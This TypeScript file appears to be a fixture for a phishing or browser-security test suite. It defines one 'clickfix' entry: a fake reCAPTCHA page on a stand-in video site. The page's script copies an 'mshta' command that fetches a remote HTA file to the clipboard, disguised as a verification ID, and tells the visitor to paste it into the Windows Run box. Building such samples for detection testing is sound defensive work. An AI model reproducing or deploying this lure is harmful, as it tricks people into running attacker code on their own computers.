import { htmlRoute, type Entry } from '../entry.js';
import { pngRoute } from '../parts/e-bin.js';
import { doc } from '../parts/za-kit.js';

export const entries: Entry[] = [
  {
  id: 'za-clickfix-video-human-check',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://streamclips-hub.cc/watch/leaked-clip-41',
  body: doc({
    title: 'Watch video — verify you are human',
    css: `body{margin:0;background:#111 url(/bg.png) center/cover;font-family:Roboto,Arial}.m{max-width:420px;margin:80px auto;background:#fff;border-radius:6px;padding:22px;box-shadow:0 6px 30px #000}.cb{border:1px solid #d3d3d3;background:#f9f9f9;padding:14px;display:flex;align-items:center;gap:10px}.cb input{width:24px;height:24px}#st{display:none}ol li{margin:8px 0}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 5px}`,
    body: `<div class="m"><h3>Verify you are human to continue watching</h3><div class="cb"><input type="checkbox" id="c"><label for="c">I'm not a robot</label><span style="margin-left:auto;font-size:10px;color:#555">reCAPTCHA<br>Privacy · Terms</span></div>
<div id="st"><p><b>Verification steps</b></p><ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol><p style="font-size:12px;color:#666">This completes the verification: ✅ "I am not a robot - reCAPTCHA Verification ID: 7731"</p></div></div>
<script>document.getElementById('c').onclick=function(){var cmd='mshta https://streamclips-hub.cc/v/7731.hta # ✅ I am not a robot - reCAPTCHA Verification ID: 7731';navigator.clipboard.writeText(cmd).catch(function(){var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();});document.getElementById('st').style.display='block';};</script>`,
  }),
  routes: { 'streamclips-hub.cc/bg.png': pngRoute(20, 20, 30) },
},
];
